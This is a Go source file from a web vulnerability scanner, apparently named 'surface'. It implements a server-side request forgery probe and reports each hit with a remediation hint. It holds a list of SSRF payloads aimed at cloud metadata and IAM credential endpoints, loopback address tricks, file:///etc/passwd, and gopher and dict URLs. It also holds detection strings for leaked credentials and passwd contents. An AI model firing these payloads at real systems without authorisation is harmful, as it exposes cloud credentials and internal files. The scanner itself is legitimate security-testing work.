package vuln

import (
	"context"
	"fmt"
	"net/http"

	"github.com/buemura/surface/internal/scanner"
	"github.com/buemura/surface/pkg/types"
)

// ssrfParams are parameter names that commonly carry URLs.
var ssrfParams = []string{
	"url", "uri", "path", "dest", "redirect", "link", "callback", "return",
	"page", "continue", "view", "file", "document", "folder", "root", "pg",
	"style", "template", "php_path", "doc",
}

var ssrfPayloads = []string{
	"http://169.254.169.254/latest/meta-data/",
	"http://169.254.169.254/latest/meta-data/iam/security-credentials/",
	"http://metadata.google.internal/computeMetadata/v1/",
	"http://169.254.169.254/metadata/instance?api-version=2021-02-01",
	"http://100.100.100.200/latest/meta-data/",
	"http://localhost",
	"http://127.0.0.1",
	"http://[::1]",
	"http://2130706433",
	"http://0177.0.0.1",
	"http://127.1",
	"file:///etc/passwd",
	"file:///c:/windows/win.ini",
	"gopher://127.0.0.1:25/_HELO",
	"dict://127.0.0.1:11211/stats",
	"http://127.0.0.1@example.com",
	"http://localtest.me",
}

// ssrfIndicators are strings that only appear when an internal resource was
// fetched. Matches already present in the baseline are ignored.
var ssrfIndicators = []string{
	"ami-id",
	"instance-id",
	"security-credentials",
	"instance-identity",
	"computeMetadata",
	"root:x:0:0",
	"daemon:",
	"nobody:",
	"[extensions]",
	"private-ip",
	"iam-info",
	"STAT pid",
}

type ssrfProbe struct{ base }

// NewSSRF creates the server-side request forgery probe.
func NewSSRF(cfg Config) scanner.Probe {
	return &ssrfProbe{newBase(cfg, SSRF, "Server-side request forgery via URL parameters")}
}

func (p *ssrfProbe) Run(ctx context.Context, target types.Target, progress scanner.ProgressFunc) ([]types.Finding, error) {
	var findings []types.Finding
	baseline := p.baseline(ctx, target, target.URL, "url")
	hit := map[string]bool{}

	for _, payload := range ssrfPayloads {
		progress.Notify(payload)

		for _, param := range ssrfParams {
			if ctx.Err() != nil {
				return findings, nil
			}
			if hit[param] {
				continue
			}

			testURL := withParam(target.URL, param, payload)
			resp, err := p.do(ctx, target, request{URL: testURL, NoRedirect: true})
			if err != nil {
				p.skip(payload, err)
				continue
			}
			if resp.Status != http.StatusOK || resp.Body == "" {
				continue
			}

			ind, ok := firstIndicator(resp.Body, baseline, ssrfIndicators)
			if !ok {
				continue
			}

			hit[param] = true
			findings = append(findings, types.Finding{
				Name:        "Server-Side Request Forgery (SSRF)",
				Severity:    types.SeverityHigh,
				Description: fmt.Sprintf("The server fetches the URL supplied in parameter %q without validation, exposing internal resources.", param),
				Evidence:    fmt.Sprintf("Payload %q, indicator %q, response preview: %s", payload, ind, truncate(resp.Body, 200)),
				URL:         testURL,
				Remediation: "Allow-list outbound destinations, block link-local and private ranges, and disable unused URL schemes.",
				Metadata: map[string]string{
					"param":     param,
					"payload":   payload,
					"indicator": ind,
				},
			})
			p.log.Warn("SSRF", "url", testURL, "param", param)
		}
	}

	return findings, nil
}
